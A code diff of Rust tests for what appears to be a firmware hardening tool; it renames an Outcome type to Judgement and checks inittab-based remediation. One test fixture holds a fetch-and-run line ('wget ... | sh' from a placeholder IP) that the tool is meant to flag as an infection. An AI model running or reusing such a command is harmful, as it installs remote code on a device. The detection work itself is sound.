@@ -4,7 +4,7 @@ use super::*;
 use crate::wall::policy::tests::bare;
 use crate::wall::policy::{Reach, Service};
 use crate::wall::process_snapshot::{Program, Transport};
-use crate::wall::report::Outcome;
+use crate::wall::report::Judgement;
 use alloc::vec;
 
 /// A file, what it does, and what it becomes; the same where nothing is found.
@@ -226,7 +226,7 @@ fn a_line_on_the_firmwares_own_medium_cannot_be_changed_and_that_is_said() {
         Remediation::StopStarting { file: "/etc/inittab".into(), line: 1, says: "::respawn:telnetd".into() };
     assert_eq!(report.remediations(), [&remediation]);
     let report = judged(&found("::respawn:telnetd", false), &strict);
-    assert!(matches!(report.outcome(Measure::Respawn), Outcome::CannotEnforce(_)));
+    assert!(matches!(report.judgement(Measure::Respawn), Judgement::CannotEnforce(_)));
     let report = judged(&found("::once:wget http://192.0.2.1/x -O- | sh", true), &strict);
     assert!(report.findings[0].infection);
     let allowed = policy(vec![Service {
